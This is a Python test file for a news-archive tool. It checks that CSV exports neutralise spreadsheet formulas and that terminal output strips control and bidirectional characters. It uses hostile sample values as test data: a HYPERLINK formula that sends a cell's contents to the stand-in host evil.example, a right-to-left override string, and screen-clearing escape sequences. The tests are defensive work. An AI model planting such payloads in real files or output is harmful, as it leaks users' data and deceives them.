"""Archived text is hostile until shown safe: CSV cells and terminal text (issue 8, hole 6)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from editions.api import Editions
from editions.cli import cli
from editions.output import csv_cell, terminal_text
from editions.settings import Settings
from tests.pages import article_html, paragraphs
from worker.pipeline import ingest_article

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
BIDI = "\u202eevil\u202c"
C1 = "\x9b2J"  # CSI in its one-byte C1 form: clears some terminals


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("plain title", "plain title"),
        (3, 3),
        (None, None),
    ],
)
def test_csv_cells_never_start_a_formula(value: object, expected: object) -> None:
    assert csv_cell(value) == expected


def test_terminal_text_drops_control_and_bidi_characters() -> None:
    text = f"a{C1}b{BIDI}c\x1b[2Jd\x07e\tf\ng\u2066h\u2069"
    assert terminal_text(text) == "a2Jb" + "evil" + "c[2Jde\tf\ngh"
    # Our own colours survive in a coloured diff; a smuggled escape does not clear the screen.
    assert terminal_text("\x1b[32m+new\x1b[0m \x1b[2J", keep_colour=True) == (
        "\x1b[32m+new\x1b[0m [2J"
    )


@pytest.fixture
def hostile_archive(site, tmp_path: Path) -> dict[str, str]:
    url = site.url("/news/hostile")
    body = ["The council met again.", *paragraphs("the harbour")]
    site.add("/news/hostile", article_html(title=FORMULA + BIDI, paragraphs=body, canonical=url))
    database = f"sqlite:///{tmp_path / 'hostile.db'}"
    with Editions(database, settings=Settings(allow_private_addresses=True, host_delay=0.0)) as ed:
        assert ingest_article(ed.pipeline, url).action == "new"
    return {"database": database, "url": url}


def run(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_csv_exports_neutralise_formulas(hostile_archive: dict[str, str]) -> None:
    for args in (["search", "harbour", "--csv"], ["history", hostile_archive["url"], "--csv"]):
        out = run(*args, "-d", hostile_archive["database"])
        rows = list(csv.DictReader(io.StringIO(out)))
        assert rows and rows[0]["title"] == "'" + FORMULA + BIDI


def test_terminal_output_is_clean_but_json_is_faithful(hostile_archive: dict[str, str]) -> None:
    db, url = hostile_archive["database"], hostile_archive["url"]
    for args in (["show", url], ["search", "council"], ["history", url]):
        out = run(*args, "-d", db)
        assert FORMULA in out or args[0] == "search", (args, out)
        assert "\u202e" not in out and "\u202c" not in out, args
    shown = json.loads(run("show", url, "--json", "-d", db))
    assert shown["title"] == FORMULA + BIDI  # JSON keeps what was archived
